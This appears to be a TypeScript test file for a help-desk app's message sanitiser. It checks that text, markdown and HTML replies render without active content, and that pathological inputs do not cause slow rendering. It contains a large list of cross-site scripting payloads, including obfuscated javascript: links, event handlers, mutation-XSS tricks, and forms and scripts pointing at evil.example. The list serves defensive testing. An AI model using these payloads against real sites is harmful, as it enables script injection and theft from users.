import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import type { MessageFormat } from '../../src/events.js';
import { bodyAsHtml, sanitiseHtml } from '../../src/tickets/message-body.js';

const TAGS = new Set(
  'p br div span a b strong i em u s del sub sup code pre blockquote ul ol li hr h4 table thead tbody tr th td'.split(
    ' ',
  ),
);
const ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'rel', 'target'],
  ol: ['start'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
};

/** Everything in a piece of HTML that could act, load something or lead somewhere it should not. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(tag, attributes) {
      if (!TAGS.has(tag)) found.push(`<${tag}>`);
      for (const [name, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES[tag]?.includes(name)) found.push(`${tag} ${name}`);
        // As a browser reads it: control characters and spaces fall out of a scheme.
        if (name === 'href' && !/^(?:https?:\/\/|mailto:)/i.test(value.replace(/[\u0000-\u0020]/g, '')))
          found.push(`href ${value}`);
      }
      if (tag === 'a' && !(attributes.rel === 'noopener noreferrer nofollow ugc' && attributes.target === '_blank'))
        found.push('a link that tells where it stands');
    },
    oncomment: () => found.push('a comment'),
    onprocessinginstruction: () => found.push('an instruction'),
  });
  parser.end(html);
  return found;
}

const formats: MessageFormat[] = ['text', 'markdown', 'html'];

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u00a0>alert(1)</script>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/tickets/other">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a href="https://a.example" target="_self" rel="opener" ping="https://evil.example">x</a>',
  '<a href="https://a.example" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<p/onmouseover=alert(1)>x</p>',
  '<p x="`" onclick=`alert(1)`>x</p>',
  '<div class="message" id="reply">x</div>',
  '<style>body{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=code><button>Send</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea></textarea><script>alert(1)</script>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '</p></div></article><form action="https://evil.example"><input name=code>',
  '"><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](  javascript:alert(1) "t")',
  '[x](java&#115;cript:alert(1))',
  '[x](data:text/html,alert(1))',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '[x](/tickets/other)',
  '![x](https://evil.example/pixel.gif)',
  '![x](x"onerror="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<https://a.example/"onmouseover="alert(1)>',
  '[a](https://a.example/"onmouseover="alert(1))',
  '```html"><script>alert(1)</script>\nx\n```',
  '~~~"onclick="alert(1)\nx\n~~~',
  'javascript:alert(1)',
  'https://a.example/"onmouseover=alert(1)',
  'https://a.example/<script>alert(1)</script>',
  'www.evil.example\u202egnp.exe',
  '{{constructor.constructor("alert(1)")()}}',
];

describe('a message on the ticket page', () => {
  describe.each(formats)('in %s', (format) => {
    it.each(attacks)('does nothing by itself: %s', (attack) => {
      expect(dangers(bodyAsHtml(attack, format))).toEqual([]);
      expect(dangers(bodyAsHtml(`<p>before</p>\n\n${attack}\n\nafter`, format))).toEqual([]);
    });
  });

  it.each(formats)('does nothing by itself whatever it is made of, in %s', (format) => {
    const pieces = fc.constantFrom(
      ...[
        '<',
        '>',
        '</',
        '/>',
        '"',
        "'",
        '`',
        '=',
        ' ',
        '\n',
        '\n\n',
        '\t',
        '\0',
        '&',
        '&#',
        ';',
        '!--',
        '-->',
        '\\',
        '[',
        ']',
        '(',
        ')',
        '!',
        '*',
      ],
      ...[
        'script',
        'img',
        'a',
        'svg',
        'math',
        'style',
        'iframe',
        'p',
        'textarea',
        'title',
        'noscript',
        'table',
        'mglyph',
        'xmp',
      ],
      ...[
        'href',
        'src',
        'onerror',
        'onclick',
        'style',
        'srcdoc',
        'javascript:',
        'data:',
        'https://a.example',
        'alert(1)',
        '&colon;',
        '&#106;',
        'x',
      ],
    );
    const soup = fc
      .array(fc.oneof(pieces, fc.string({ maxLength: 3, unit: 'binary' })), { maxLength: 30 })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(soup, (body) => {
        expect(dangers(bodyAsHtml(body, format))).toEqual([]);
        if (format === 'html') expect(dangers(bodyAsHtml(sanitiseHtml(body), 'html'))).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });

  it('would be seen to be dangerous by this test', () => {
    for (const [html, danger] of [
      ['<script>x</script>', '<script>'],
      ['<p onclick=x>', 'p onclick'],
      ['<a href="java&Tab;script:x" rel="noopener noreferrer nofollow ugc" target="_blank">', 'href java\tscript:x'],
      ['<a href="https://a.example">', 'a link that tells where it stands'],
      ['<!-- x -->', 'a comment'],
    ] as const)
      expect(dangers(html)).toEqual([danger]);
  });

  it('stored as HTML holds nothing that acts even before it is shown', () => {
    for (const attack of attacks) {
      const kept = dangers(sanitiseHtml(attack)).filter((danger) => danger !== 'a link that tells where it stands');
      expect(kept).toEqual([]);
    }
  });

  it.each<[MessageFormat, string, string]>([
    [
      'html',
      '<p>Hi <b>Siti</b>,<br>see <a href="https://a.example/x?y=1&amp;z=2">this</a></p>',
      '<p>Hi <b>Siti</b>,<br />see <a href="https://a.example/x?y=1&amp;z=2" rel="noopener noreferrer nofollow ugc" target="_blank">this</a></p>',
    ],
    ['html', '<h1>Title</h1><ol start="3"><li>x</li></ol>', '<h4>Title</h4><ol start="3"><li>x</li></ol>'],
    [
      'html',
      '<table><tr><td colspan="2" bgcolor="red">x</td></tr></table>',
      '<table><tr><td colspan="2">x</td></tr></table>',
    ],
    ['html', '2 &lt; 3 &amp; "so"', '2 &lt; 3 &amp; "so"'],
    ['markdown', '**bold** and `code`\nnext', '<p><strong>bold</strong> and <code>code</code><br />\nnext</p>\n'],
    ['markdown', '1. one\n2. two', '<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n'],
    ['markdown', '<b>not bold</b>', '<p>&lt;b&gt;not bold&lt;/b&gt;</p>\n'],
    ['text', 'one\ntwo\n\nthree', '<p>one<br />\ntwo</p>\n<p>three</p>\n'],
    [
      'text',
      '**not bold** <b>nor this</b> & [x](https://a.example)',
      expect.stringContaining('**not bold** &lt;b&gt;nor this&lt;/b&gt; &amp; [x]('),
    ],
    [
      'text',
      '# 1. not a heading\n- nor a list\n    nor code',
      '<p># 1. not a heading<br />\n- nor a list<br />\nnor code</p>\n',
    ],
    [
      'text',
      'see https://a.example/x.',
      '<p>see <a href="https://a.example/x" rel="noopener noreferrer nofollow ugc" target="_blank">https://a.example/x</a>.</p>\n',
    ],
    ['text', 'C:\\new\\table &amp; 100% \\* 😀 مرحبا', '<p>C:\\new\\table &amp;amp; 100% \\* 😀 مرحبا</p>\n'],
    ['text', '', ''],
  ])('keeps what was meant, in %s: %j', (format, body, html) => expect(bodyAsHtml(body, format)).toEqual(html));

  it('keeps HTML that was stored as it is when it is shown', () => {
    const stored = sanitiseHtml('<p>5 &gt; 4 &amp;lt;b&amp;gt;</p>');
    expect(bodyAsHtml(stored, 'html')).toBe(stored);
  });

  it.each<[string, MessageFormat, string]>([
    ...formats.flatMap((format): [string, MessageFormat, string][] => [
      ['tags that never end', format, '<a'.repeat(66_000)],
      ['tags in tags', format, '<b>'.repeat(66_000)],
      ['quotes in quotes', format, '> '.repeat(100_000)],
      ['brackets', format, '['.repeat(200_000)],
      ['emphasis', format, '*a_'.repeat(66_000)],
      ['backticks', format, '`a``b```'.repeat(25_000)],
      ['entities', format, '&#x'.repeat(66_000)],
      ['half an address', format, 'a@'.repeat(100_000)],
      ['dots', format, 'a.'.repeat(100_000)],
      ['slashes', format, 'http://'.repeat(28_000)],
      ['comments', format, '<!--'.repeat(50_000)],
      ['lists in lists', format, '- '.repeat(100_000)],
      ['lines', format, '\n'.repeat(200_000)],
      ['pipes', format, '|a'.repeat(100_000)],
      ['links in links', format, '[a]('.repeat(50_000)],
    ]),
  ])('is made in good time though it is made to be slow: %s in %s', (_what, format, body) => {
    const started = performance.now();
    bodyAsHtml(format === 'html' ? sanitiseHtml(body) : body, format);
    expect(performance.now() - started).toBeLessThan(10_000); // a tenth of that if linear, minutes if not
  });
});
